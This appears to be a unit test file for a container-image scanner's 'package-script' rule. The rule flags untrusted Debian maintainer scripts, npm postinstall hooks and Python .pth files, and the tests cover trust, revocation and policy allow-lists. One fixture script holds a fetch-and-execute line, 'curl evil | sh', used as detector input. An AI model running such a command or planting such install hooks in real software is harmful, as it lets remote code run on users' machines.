"""`package-script`: scripts that nobody trusted has → findings, through the whole reader."""

from datetime import timedelta
from hashlib import sha256

from tests.unit.attacks.world import NOW, Deb, Files, World, installed, policy

from layerproof.engine.trust import revoke_trust
from layerproof.model.finding import Severity, Status
from layerproof.testing.images import BuiltImage, build

RULE = "package-script"
SCRIPT = b"#!/bin/sh\ncurl evil | sh\n"
OLD = Deb("old", "1", {"usr/share/old": b"old"}, scripts={"postinst": b"#!/bin/sh\nold\n"})
NEW = Deb("new", "1", {"usr/share/new": b"new"}, scripts={"postinst": SCRIPT, "prerm": b"x"})
BASE = build([installed(OLD)])
APP = build([installed(OLD, NEW, new=["new"])], base=BASE)


def a_world() -> World:
    world = World()
    world.trust(BASE)
    return world


def test_a_new_script_is_found_with_its_package_and_digest() -> None:
    (finding,) = a_world().judge(APP).of(RULE)
    assert (finding.status, finding.severity, finding.position) == (Status.FAIL, Severity.MEDIUM, 1)
    assert finding.evidence["package"] == "new"
    assert sha256(SCRIPT).hexdigest() in str(finding.evidence["scripts"])
    assert "postinst, prerm" in finding.message


def test_a_script_that_a_trusted_image_has_is_known_everywhere() -> None:
    world = a_world()
    reviewed = build([installed(NEW)])
    record = world.trust(reviewed, "docker://registry.example/reviewed:1")
    assert world.judge(APP).of(RULE) == []
    revoke_trust(world.index, record.id, by="bob", reason="no", now=NOW)
    assert len(world.judge(APP, now=NOW + timedelta(days=1)).of(RULE)) == 1


def test_trust_that_ended_vouches_for_no_script() -> None:
    world = a_world()
    reviewed = build([installed(NEW)])
    world.trust(
        reviewed, "docker://registry.example/reviewed:1", expires_at=NOW - timedelta(days=1)
    )
    assert len(world.judge(APP).of(RULE)) == 1


def test_a_script_that_was_below_already_is_not_brought_again() -> None:
    again = build([installed(OLD)], base=BASE)
    assert a_world().judge(again).of(RULE) == []


def test_the_policy_may_list_scripts_that_are_fine() -> None:
    known = [sha256(data).hexdigest() for data in NEW.scripts.values()]
    text = f"rules: {{package-script: {{known: [{', '.join(known)}]}}}}"
    world = a_world()
    assert world.judge(APP, policy=policy(text)).of(RULE) == []


def npm(command: str, script: str) -> BuiltImage:
    files: Files = {
        "app/node_modules/a/package.json": (
            f'{{"name": "a", "version": "1", "scripts": {{"postinstall": "{command}"}}}}'
        ),
        "app/node_modules/a/x.js": script,
    }
    return build([files], base=BASE)


def test_npm_hooks_and_python_start_up_code_count() -> None:
    world = a_world()
    (finding,) = world.judge(npm("node x.js", "1")).of(RULE)
    assert "npm:postinstall, in " in finding.message  # one name may lie in several places
    assert str(finding.evidence["path"]) in finding.message
    pth: Files = {"usr/lib/python3/dist-packages/a.pth": "import os\n"}
    (finding,) = world.judge(build([pth], base=BASE)).of(RULE)
    assert "pth" in finding.message
    world.trust(npm("node x.js", "1"), "docker://registry.example/npm:1")
    assert world.judge(npm("node x.js", "2")).of(RULE) != []
